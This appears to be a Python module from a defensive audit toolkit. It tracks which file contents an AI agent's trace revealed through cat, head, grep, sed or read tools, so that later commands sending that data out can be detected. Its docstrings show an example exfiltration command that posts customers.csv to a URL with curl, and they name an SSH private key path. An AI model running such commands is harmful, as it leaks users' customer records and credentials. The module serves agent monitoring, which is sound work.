"""What the trace showed of a file's text: a later command that reads the file (``curl
-d "$(cat customers.csv)" URL``, ``V=$(grep -i visa customers.csv)``) sends what was
shown of it, which its own text never writes (`shell_values.output_of` reads it).

A file is shown by a shell call's output or a read tool's result:

- ``cat [-n] f``, ``less f``, a read tool's whole file (``read_file(path)``,
  ``str_replace_editor`` ``view``): its whole text;
- ``head``/``tail [-n N] f``: its first or last lines — its whole text when fewer than
  N lines came back; ``grep … f``, ``sed -n 'A,Bp' f``, ``nl f``, a read tool's line
  range: some of its lines.

Some lines are what the file is known to *hold*, not all it holds: a command reading it
whole prints at least those lines, so a value among them is sent. That is sound for a
filter that keeps or cuts lines (``grep``, ``cut``, ``sort``…), not for one that picks
lines by position (``head``, ``tail``) or parses the whole (``jq``): `shell_values`
computes those only on a whole text. A file never shown is unknown: no value.

A read tool's result is taken as the tool wrote it less its numbering (OpenHands'
``Here's the result of running `cat -n` on PATH:`` and ``     1\\tline``, numbered
one by one) so its lines are the file's. Bounded: a file's text `MAX_TEXT`
characters, `MAX_FILES` files (`shell_state` keeps the table).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

from backdoorlab.defenses.audit import patterns
from backdoorlab.defenses.audit.shell_parse import pipelines, program

MAX_TEXT = 16384
MAX_FILES = 256


@dataclass(frozen=True)
class Shown:
    """What the trace showed of one file: ``text``, the ``whole`` of it or some lines."""

    text: str
    whole: bool


_VIEW_HEADER = re.compile(r"\AHere's the result of running `cat -n` on [^\n]{1,400}:\n")
_NUMBERED = re.compile(r"^[ \t]*(\d{1,7})(?:\t|[ \t]?[|│→] ?)", re.M)
_GREP_LINE = re.compile(r"^\d{1,7}[:-]", re.M)
_GREP_PRINTS = frozenset("ivFEwhsoen")  # options that still print lines of the file
_SED_RANGE = re.compile(r"(\d{1,7})(?:,(\d{1,7}))?p")
_WHOLE = frozenset(("cat", "less", "more"))
_READ_TOOL = frozenset(("read", "view", "open", "cat", "show"))
_PATH_KEYS = ("path", "file_path", "filepath", "filename", "file", "target_file", "absolute_path")
_RANGE_KEYS = ("view_range", "offset", "limit", "start_line", "end_line", "line_range", "lines")


def cleaned(text: str) -> str:
    """A read's output less a viewer's header and its line numbers, when every line is
    numbered one after the other (a file whose lines merely start with digits keeps them)."""
    text = _VIEW_HEADER.sub("", text, count=1)
    lines = text.splitlines()
    numbers = [int(m.group(1)) for m in _NUMBERED.finditer(text)]
    if not lines or len(numbers) != len(lines):
        return text
    if any(b != a + 1 for a, b in zip(numbers, numbers[1:], strict=False)):
        return text
    return "\n".join(_NUMBERED.sub("", line, count=1) for line in lines)


def learn(shown: dict[str, Shown], command: str, output: str) -> None:
    """Record in ``shown`` what ``command``'s ``output`` shows of a file (module
    docstring); a command that shows no one file records nothing."""
    clipped = len(output) > MAX_TEXT  # what is kept of a longer output is a part of it
    found = _shows(command, output[:MAX_TEXT])
    if found is None:
        return
    path, part = found
    part = Shown(part.text, part.whole and not clipped)
    path = local(path)
    if not path or (path not in shown and len(shown) >= MAX_FILES):
        return
    old = shown.get(path)
    if old is not None and not part.whole:  # lines of a file: what is known grows
        if old.whole:
            return
        part = Shown((old.text + "\n" + part.text)[:MAX_TEXT], False)
    shown[path] = Shown(part.text[:MAX_TEXT], part.whole)


def _shows(command: str, output: str) -> tuple[str, Shown] | None:
    parsed = pipelines(command)
    if len(parsed) != 1 or len(parsed[0]) != 1 or not output:
        return None
    stage = parsed[0][0]
    words = program(stage.words)
    if not words or stage.out:
        return None
    name = words[0].rsplit("/", 1)[-1]
    flags = {w for w in words[1:] if w.startswith("-")}
    files = [w for w in words[1:] if not w.startswith("-")]
    if name in _WHOLE and len(files) == 1:
        return files[0], Shown(cleaned(output), True)
    if name in ("head", "tail"):
        return _ends(words, files, output)
    if name == "nl" and len(files) == 1:
        return files[0], Shown(cleaned(output), False)
    if name == "grep" and len(files) == 2 and all(_GREP_PRINTS.issuperset(f[1:]) for f in flags):
        lines = _GREP_LINE.sub("", output) if "-n" in flags else output
        return files[1], Shown(lines, False)
    if name == "sed" and len(files) == 2 and flags == {"-n"} and _SED_RANGE.fullmatch(files[0]):
        return files[1], Shown(cleaned(output), False)
    return None


def _ends(words: list[str], files: list[str], output: str) -> tuple[str, Shown] | None:
    """``head``/``tail [-n N|-N] f``: whole when fewer than N lines came back."""
    count = "10"
    for i, word in enumerate(words[1:], 1):
        if word == "-n" and i + 1 < len(words):
            count = words[i + 1]
        elif re.fullmatch(r"-n?\d+", word):
            count = word.lstrip("-n")
    if count in files:
        files = [f for f in files if f != count]
    if len(files) != 1 or not count.isdigit():
        return None
    whole = len(output.splitlines()) < int(count)
    return files[0], Shown(output, whole)


def local(path: str) -> str:
    """A path as shown files are compared: quotes, ``./`` and ``~/`` taken off."""
    return path.strip().strip("'\"").removeprefix("./").removeprefix("~/").rstrip("/")


def lookup(shown: dict[str, Shown], path: str) -> Shown | None:
    """What was shown of ``path``: by the path, or one path's end the other (``data/c.csv``
    and ``/srv/app/data/c.csv``; ``~/.ssh/id_rsa`` and ``/home/u/.ssh/id_rsa``)."""
    if not shown:
        return None
    path = local(path)
    if path in shown:
        return shown[path]
    for known, part in shown.items():
        if known.endswith("/" + path) or path.endswith("/" + known):
            return part
    return None


@lru_cache(maxsize=4096)
def reads(tool: str) -> bool:
    """Whether a tool's name says it reads files (``read_file``, ``view``, ``open_file``,
    ``str_replace_editor``: its ``view`` command)."""
    words = set(patterns.name_tokens(tool))
    return bool(words & _READ_TOOL) or "editor" in words


def read_command(tool: str, arguments: dict[str, Any]) -> str | None:
    """A read tool's call as the command that shows the same (``cat PATH``; a range read
    ``sed -n 'A,Bp' PATH``, some lines), None for another call."""
    command = arguments.get("command")
    if isinstance(command, str) and command != "view":
        return None  # an editor's create or replace: `file_writes`' to read
    path = next((v for k in _PATH_KEYS if isinstance(v := arguments.get(k), str)), "")
    path = path.strip()
    if not path or len(path) > 400 or "\n" in path or "://" in path:
        return None
    ranged = any(arguments.get(k) not in (None, "", [], 0) for k in _RANGE_KEYS)
    quoted = "'" + path.replace("'", "") + "'"
    return f"sed -n '1,1p' {quoted}" if ranged else f"cat {quoted}"
